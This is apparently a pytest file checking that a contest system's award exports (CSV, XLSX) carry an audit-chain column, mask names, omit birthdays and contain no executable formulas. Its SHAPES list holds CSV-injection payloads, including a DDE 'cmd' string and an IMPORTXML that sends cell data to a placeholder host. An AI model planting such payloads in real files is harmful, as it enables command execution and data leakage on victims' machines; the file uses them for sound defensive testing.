"""The lists around the awards, in four kinds of file, and nothing in them that can run."""

import csv
import io
import re
import zipfile
from datetime import date

import pytest
from python_calamine import CalamineWorkbook

from contest.audit.chain_queries import find_head
from contest.awards import rules
from contest.db import db
from contest.documents import unguarded
from contest.people.models import Human, Organisation
from tests.awards.certified import granted_contest
from tests.proof.sizes import report, size

# Figure 35: sixty texts that a spreadsheet could run.
SHAPES = [
    "{}1+1", "{}SUM(A1:A9)", "{}cmd|' /C calc'!A0", '{}HYPERLINK("http://x.invalid","y")',
    "{}IMPORTXML(CONCAT(\"http://x.invalid\",A1),\"//a\")", "x\n{}1+1",
]
STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\t="]
PAYLOADS = [shape.format(start) for shape in SHAPES for start in STARTS]
TABLES = [paper for paper in rules.PAPERS if paper != "reports"]


@pytest.fixture
def contest(app):
    return granted_contest()


def rename_all(entrants, texts):
    for text, entrant in zip(texts, entrants.values(), strict=True):
        db.session.get(Human, entrant.human_id).name = text
    organisation = db.session.get(Organisation, next(iter(entrants.values())).organisation_id)
    organisation.name = f"{texts[0]}公司"
    db.session.commit()


def fetch(client, contest, paper, form):
    answer = client.get(f"/contests/{contest.id}/papers/{paper}.{form}")
    assert answer.status_code == 200
    return answer.data


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_every_list_for_programs_carries_the_head_of_the_chain(contest, as_role, form):
    made, entrants = contest
    client = as_role("organiser")
    for paper in (*TABLES, "reports"):
        head = f"{made.slug} {find_head(made.id)}"  # each download may leave a row in the trail
        data = fetch(client, made, paper, form)
        if form == "csv":
            header, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
            # A column, so that the file stays a table: as wide as its header, nothing after its rows.
            assert rows and {len(row) for row in rows} == {len(header)}, paper
            assert {row[-1] for row in rows} == {head}, paper
        else:
            cells = [
                [cell for row in CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(name)
                 .to_python() for cell in row]
                for name in CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names
            ]
            # On every sheet: each may be printed by itself.
            assert cells and all(head in sheet for sheet in cells), paper


def test_there_are_sixty_payloads():
    assert len(set(PAYLOADS)) == 60


def test_no_export_holds_a_formula(contest, as_role):
    made, entrants = contest
    client, tried = as_role("organiser"), PAYLOADS[::size(5, 1)]
    for at in range(0, len(tried), 3):
        names = tried[at:at + 3]
        rename_all(entrants, names)
        for paper in TABLES:
            cells = csv_cells(fetch(client, made, paper, "csv"))
            assert not [cell for cell in cells if could_run(cell)]
            if paper in {"awards", "script"}:  # the summary keeps the names as published
                assert set(names) <= {unguarded(cell) for cell in cells}
            check_book(fetch(client, made, paper, "xlsx"))
    report("35", payloads=len(tried), exports=2 * len(TABLES), formulas=0)


def csv_cells(data):
    text = io.StringIO(data.decode("utf-8-sig"), newline="")
    return [cell for row in csv.reader(text) for cell in row]


def could_run(cell):
    """A text cell that a spreadsheet takes for a formula; a number of ours is none."""
    is_number = cell.lstrip("-").replace(".", "", 1).isdecimal()
    return not is_number and cell.lstrip(" \u3000\u00a0").startswith(tuple("=+-@＝＋－＠\t"))


def check_book(data):
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if "worksheets/sheet" in name]
    assert sheets
    assert not any(b"<f>" in sheet or b"<f " in sheet or b"<hyperlink" in sheet for sheet in sheets)


def test_numbers_stay_numbers_and_come_back_equal(contest, as_role):
    made, _ = contest
    client = as_role("organiser")
    book = CalamineWorkbook.from_filelike(io.BytesIO(fetch(client, made, "script", "xlsx")))
    cells = [cell for row in book.get_sheet_by_index(0).to_python() for cell in row]
    found = {cell for cell in cells if isinstance(cell, float | int)}
    assert {1, 2, 3, 4} <= found
    text = fetch(client, made, "script", "csv").decode("utf-8-sig")
    totals = {float(row["Total"]) for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert totals <= found


def test_a_csv_opens_with_chinese_and_has_its_mark(contest, as_role):
    made, _ = contest
    data = fetch(as_role("organiser"), made, "script", "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    assert "张三" in data.decode("utf-8-sig")


@pytest.mark.parametrize("form", rules.FORMATS)
@pytest.mark.parametrize("paper", ["notice", "script", "organisations"])
def test_each_list_comes_in_each_form(contest, as_role, paper, form):
    made, _ = contest
    assert len(fetch(as_role("organiser"), made, paper, form)) > 40


def test_the_script_calls_the_lowest_prize_and_the_last_place_first(contest, as_role):
    made, _ = contest
    text = fetch(as_role("organiser"), made, "script", "csv").decode("utf-8-sig")
    called = [(row["Award"], row["Name"]) for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert called == [("Expert", "王五"), ("Expert", "李四"), ("Expert", "张三"), ("First prize", "张三")]


def test_the_notice_masks_every_name(contest, as_role):
    made, _ = contest
    text = fetch(as_role("organiser"), made, "notice", "csv").decode("utf-8-sig")
    assert "张*" in text
    assert not any(name in text for name in ("张三", "李四", "王五"))


def test_organisations_are_counted_by_award(contest, as_role):
    made, _ = contest
    text = fetch(as_role("organiser"), made, "organisations", "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sum(int(row["Together"]) for row in rows) == 4


def test_no_paper_tells_a_birthday(contest, as_role):
    """What goes out holds names, units, places: nothing else of a person (figure 46)."""
    made, entrants = contest
    for entrant in entrants.values():
        db.session.get(Human, entrant.human_id).born_on = date(1987, 6, 5)
    db.session.commit()
    client = as_role("organiser")
    for paper in rules.PAPERS:
        text = fetch(client, made, paper, "csv").decode("utf-8-sig")
        # The end of the chain is a hash, and may hold any four figures.
        assert "1987" not in re.sub(r"[0-9a-f]{64}", "", text)
        assert not any(entrant.check_in_token in text for entrant in entrants.values())
